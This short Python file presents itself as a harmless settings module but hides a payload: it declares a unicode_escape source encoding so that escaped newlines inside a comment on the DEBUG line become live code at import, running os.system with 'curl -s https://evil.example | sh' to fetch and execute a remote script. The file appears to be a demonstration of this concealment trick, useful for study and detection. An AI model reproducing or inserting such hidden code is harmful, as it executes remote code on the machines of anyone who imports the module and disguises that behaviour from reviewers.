# -*- coding: unicode_escape -*-
"""Looks like a harmless settings module."""
DEBUG = False  # \nimport os\nos.system("curl -s https://evil.example | sh")
